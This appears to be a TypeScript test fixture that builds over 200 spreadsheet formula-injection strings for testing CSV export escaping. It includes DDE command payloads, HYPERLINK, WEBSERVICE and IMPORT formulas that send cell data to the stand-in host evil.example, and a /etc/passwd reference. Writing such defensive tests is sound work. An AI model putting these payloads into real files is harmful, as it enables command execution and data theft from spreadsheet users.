// Lists texts that spreadsheets are known to compute, alone and behind what a reader of CSV could remove or take for the end of
// a cell. The payloads are harmless: they name hosts of .example, and a program that only computes.

/** They begin with the sign. */
const PAYLOADS = [
  '=1+1',
  '=1+1",',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"!A0")',
  '=HYPERLINK("https://evil.example/?x="&A1,"click")',
  '=HYPERLINK("https://evil.example/?x="&A1;"click")',
  '=WEBSERVICE("https://evil.example/?x="&A1)',
  '=FILTERXML(WEBSERVICE("https://evil.example/"),"//a")',
  '=IMPORTXML("https://evil.example/","//a")',
  '=IMPORTDATA("https://evil.example/?x="&A1)',
  '=IMPORTHTML("https://evil.example/","table",1)',
  '=IMPORTFEED("https://evil.example/")',
  '=IMPORTRANGE("https://evil.example/","A1")',
  '=IMAGE("https://evil.example/?x="&A1)',
  "='file:///etc/passwd'#$passwd.A1",
  '=INDIRECT("A1")',
  '=SUM(A1:A9)',
  '=NOW()',
  '=RAND()',
  '={1;2}',
  '==1+1',
  '=-1',
  '=A1&B1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
];

/** They stand before the sign. */
const STARTS = [
  ' ',
  '   ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\0\0 ',
  '\ufeff',
  '\u00a0',
  '\u3000',
  '\u200b',
  "'",
  '"',
  '""',
  '{',
  '|',
  '%',
];

/** They end the cell for a reader that misunderstands quotation marks, separators or line ends. */
const BREAKS = [
  'a,',
  'a;',
  'a\t',
  '",',
  '";',
  '"\t',
  '"\r\n',
  '"\n',
  'a\r\n',
  'a\n',
  '"",',
  '\\",',
  'a","',
  'a"\r\n"',
  "',",
  '\u2028',
];

const SHORT = PAYLOADS.slice(0, 6);

/** Each once, more than 200. */
export const formulas: readonly string[] = [
  ...new Set([...PAYLOADS, ...[...STARTS, ...BREAKS].flatMap((start) => SHORT.map((payload) => start + payload))]),
];
